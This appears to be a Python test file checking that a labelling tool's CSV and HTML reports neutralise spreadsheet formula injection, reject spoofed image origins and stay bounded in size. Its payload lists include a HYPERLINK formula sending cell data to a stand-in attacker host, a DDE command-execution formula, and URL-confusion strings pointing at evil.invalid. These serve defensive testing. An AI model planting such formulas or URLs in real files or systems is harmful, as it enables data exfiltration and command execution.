"""Reports are safe to open: a CSV a spreadsheet opens runs no formula and keeps one record per
issue, an HTML page stays small and fast whatever a label holds, and ``--images`` admits only
the origins it names. The rows come from real batch runs of the native core on crafted labels."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from kili_rules import RuleSet
from kili_rules.report import COLUMNS, Report

# Formula starts (OWASP's list), with what a spreadsheet would do with them, and cells that
# break a naive CSV: CR, LF, CRLF, quotes and commas inside a value.
INJECTIONS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "a\rb=1",
    "a\nb",
    "a\r\nb",
    'a "quoted", value',
    "plain",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# Every column whose text can come from an annotator's label or export (rule and kind come from
# the rules file, and are neutralised the same way).
USER_TEXT = (
    "asset_id",
    "external_id",
    "label_id",
    "job",
    "category",
    "mid",
    "text",
    "source",
    "author",
    "label_type",
    "created_at",
    "asset_status",
)


def box(job: str, category: str, mid: str) -> dict[str, Any]:
    """A label with one large rectangle (81% of the image) in ``job``."""
    vertices = [{"x": 0.05, "y": 0.95}, {"x": 0.05, "y": 0.05}, {"x": 0.95, "y": 0.05}]
    vertices.append({"x": 0.95, "y": 0.95})
    annotation = {
        "boundingPoly": [{"normalizedVertices": vertices}],
        "categories": [{"name": category}],
        "children": {},
        "mid": mid,
        "type": "rectangle",
    }
    return {job: {"annotations": [annotation]}}


def rules_for(payload: str) -> RuleSet:
    return RuleSet.from_dict(
        {
            "rule": [
                # The message starts with label data, so the payload leads the text cell.
                {
                    "id": "big",
                    "kind": "area",
                    "job": payload,
                    "max": 0.1,
                    "message": "{category} is too large",
                }
            ]
        }
    )


def file_name(payload: str) -> str:
    return payload.replace("/", "_").replace("\r", "_").replace("\n", "_") + ".json"


def crafted_export(tmp: Path, payload: str, name: str | None = None) -> Path:
    """A Kili export whose every text field (and the label file's name) is ``payload``."""
    record = {
        "id": payload,
        "externalId": payload,
        "status": payload,
        "content": "",
        "latestLabel": {
            "id": payload,
            "author": {"email": payload},
            "labelType": payload,
            "createdAt": payload,
            "jsonResponse": box(payload, payload, payload),
        },
    }
    path = tmp / "export.zip"
    name = name or file_name(payload)
    with zipfile.ZipFile(path, "w") as archive:
        # At the top of the zip, so that the source cell starts with the payload too.
        archive.writestr(name, json.dumps(record))
    return path


def expected(value: str) -> str:
    return "'" + value if value.startswith(FORMULA) else value


@pytest.mark.parametrize("payload", INJECTIONS, ids=[repr(p) for p in INJECTIONS])
def test_csv_neutralises_formulas_in_every_text_column(payload: str, tmp_path: Path) -> None:
    report = rules_for(payload).validate_export(crafted_export(tmp_path, payload), progress=False)
    assert len(report) == 1
    row = report[0]
    carried = [c for c in USER_TEXT if payload in (getattr(row, c, None) or "")]
    # The payload reached the row in all these columns (source holds it in the file's name).
    assert set(carried) >= set(USER_TEXT) - {"source"}, carried
    text = report.to_csv()
    # Read back as a spreadsheet importer does: one header and exactly one record.
    records = list(csv.reader(io.StringIO(text, newline="")))
    assert len(records) == 2, records
    assert records[0] == list(COLUMNS)
    cells = dict(zip(COLUMNS, records[1], strict=True))
    for column in COLUMNS:
        assert not cells[column].startswith(FORMULA), (column, cells[column])
    for column in set(carried) - {"text", "source"}:
        assert cells[column] == expected(payload), column
    assert cells["text"] == expected(f"{payload} is too large")
    assert cells["source"] == expected(file_name(payload))
    # Numbers stay numbers (a negative measure would keep its sign: they are not text).
    assert float(cells["value"]) == pytest.approx(0.81) and cells["limit"] == "0.1"


def test_csv_quotes_every_cr_and_lf_and_ends_records_with_crlf(tmp_path: Path) -> None:
    report = rules_for("a\rb").validate_export(crafted_export(tmp_path, "a\rb"), progress=False)
    text = report.to_csv()
    # The raw file: every CR or LF that is not a record end sits inside a quoted cell.
    body = text.split("\r\n")
    assert body[-1] == "" and len(body) == 3  # header, one record, and the final CRLF
    for cell in body[1].split(","):
        if "\r" in cell or "\n" in cell:
            assert cell.startswith('"') and cell.endswith('"'), cell
    # A reader that splits on any line end (as spreadsheets do on a bare CR) still sees one
    # record: the CRs are inside quotes.
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 2


def test_csv_of_an_empty_report_is_its_header() -> None:
    assert Report().to_csv() == ",".join(COLUMNS) + "\r\n"


# -- --images: an origin and whole path segments ---------------------------------------------

ALLOWED = "https://storage.example.org"
ADMITTED = (
    "https://storage.example.org/a.jpg",
    "https://storage.example.org:443/a.jpg",
    "HTTPS://Storage.Example.ORG/bucket/a.jpg?sig=1#x",
)
REFUSED = (
    "https://storage.example.org.evil.invalid/a.jpg",
    "https://storage.example.org@evil.invalid/a.jpg",
    "https://storage.example.org:443@evil.invalid/a.jpg",
    "https://user:pw@storage.example.org/a.jpg",
    "https://storage.example.org:8443/a.jpg",
    "http://storage.example.org/a.jpg",
    "https://storage.example.org\\@evil.invalid/a.jpg",
    "https://storage.example.org.\tevil.invalid/a.jpg",
    "https://storage.example.org:99999/a.jpg",
    "https://evil.invalid/https://storage.example.org/a.jpg",
)


def image_report(contents: list[str]) -> Report:
    rules = RuleSet.from_dict({"rule": [{"id": "big", "kind": "area", "job": "JOB_0", "max": 0.1}]})
    items = [
        {
            "id": f"img{i}",
            "externalId": f"img{i}.jpg",
            "content": content,
            "latestLabel": {"jsonResponse": box("JOB_0", "OBJECT_A", f"m{i}")},
        }
        for i, content in enumerate(contents)
    ]
    report = rules.validate_many(items, progress=False)
    assert len(report) == len(contents)
    return report


def drawn_images(page: str) -> list[str]:
    import html
    import re

    return [html.unescape(h) for h in re.findall(r'<image [^>]*href="([^"]*)"', page)]


def test_images_prefix_is_an_origin_not_a_string_prefix() -> None:
    report = image_report([*ADMITTED, *REFUSED])
    drawn = drawn_images(report.to_html(images=[ALLOWED], drawings_per_rule=100))
    assert drawn == list(ADMITTED)
    # The same with a trailing slash, and nothing at all without a prefix.
    assert drawn_images(report.to_html(images=[ALLOWED + "/"], drawings_per_rule=100)) == drawn
    assert drawn_images(report.to_html(drawings_per_rule=100)) == []


def test_images_path_prefix_is_matched_by_whole_segments() -> None:
    inside = ["https://storage.example.org/bucket", "https://storage.example.org/bucket/x/a.jpg"]
    outside = [
        "https://storage.example.org/bucket-other/a.jpg",
        "https://storage.example.org/bucketa.jpg",
        "https://storage.example.org/bucket/../private/a.jpg",
        "https://storage.example.org/bucket/%2e%2e/private/a.jpg",
        "https://storage.example.org/other/a.jpg",
    ]
    report = image_report(inside + outside)
    prefix = "https://storage.example.org/bucket/"
    assert drawn_images(report.to_html(images=[prefix], drawings_per_rule=100)) == inside


@pytest.mark.parametrize(
    "prefix",
    ["storage.example.org", "ftp://storage.example.org", "https://a@storage.example.org",
     "https://storage.example.org/?q=1", "https://storage.example.org/#x", "https://"],
)  # fmt: skip
def test_images_refuses_a_prefix_that_is_not_an_origin(prefix: str) -> None:
    report = image_report(["https://storage.example.org/a.jpg"])
    with pytest.raises(ValueError, match="is not 'local' nor an http"):
        report.to_html(images=[prefix])
    with pytest.raises(ValueError, match="is not 'local' nor an http"):
        report.to_html(images=[prefix], drawings_per_rule=0)


# -- HTML: what a label holds does not make the page large -------------------------------------

#: The most one issue adds to a page, whatever its fields hold: each field is held up to
#: clip.KEEP characters (shown on demand), a few times (table data, first page, drawing caption).
PAGE_BOUND = 400_000
BIG = 10 * 1024 * 1024


def test_a_10_mb_field_gives_a_page_under_the_bound(tmp_path: Path) -> None:
    from kili_rules.report import clip

    # A 10 MB category name: the message ("{category} is too large") holds it too.
    category = "C" * BIG
    label = box("JOB_0", category, "m1")
    rules = RuleSet.from_dict(
        {"rule": [{"id": "big", "kind": "area", "job": "JOB_0", "max": 0.1,
                   "message": "{category} is too large"}]}
    )  # fmt: skip
    report = rules.validate_many(
        [{"id": "a1", "externalId": "a1.jpg", "latestLabel": {"jsonResponse": label}}],
        progress=False,
    )
    assert len(report) == 1 and len(report[0].text) > BIG  # the row itself holds it whole
    page = report.to_html()
    assert len(page.encode()) < PAGE_BOUND, len(page.encode())
    # Cut, and said so: the start in a <details>, how much was left out, where the whole is.
    assert '<details class="kr-more"><summary>' + "C" * clip.SHOW_MESSAGE + "…" in page
    assert f"[{BIG - clip.KEEP:,} more characters: the whole text is in the JSON" in page
    assert len(json.loads(report.to_json())["rows"][0]["text"]) > BIG  # the JSON keeps all


def test_a_1_mb_payload_in_every_field_gives_a_page_under_the_bound(tmp_path: Path) -> None:
    payload = "<b>" + "x" * (1024 * 1024) + "</b>"  # escaped too: no markup from labels
    report = rules_for(payload).validate_export(
        crafted_export(tmp_path, payload, "labels/a.json"), progress=False
    )
    assert len(report) == 1
    page = report.to_html()
    assert len(page.encode()) < PAGE_BOUND, len(page.encode())
    assert "<b>x" not in page
    assert "&lt;b&gt;xxx" in page
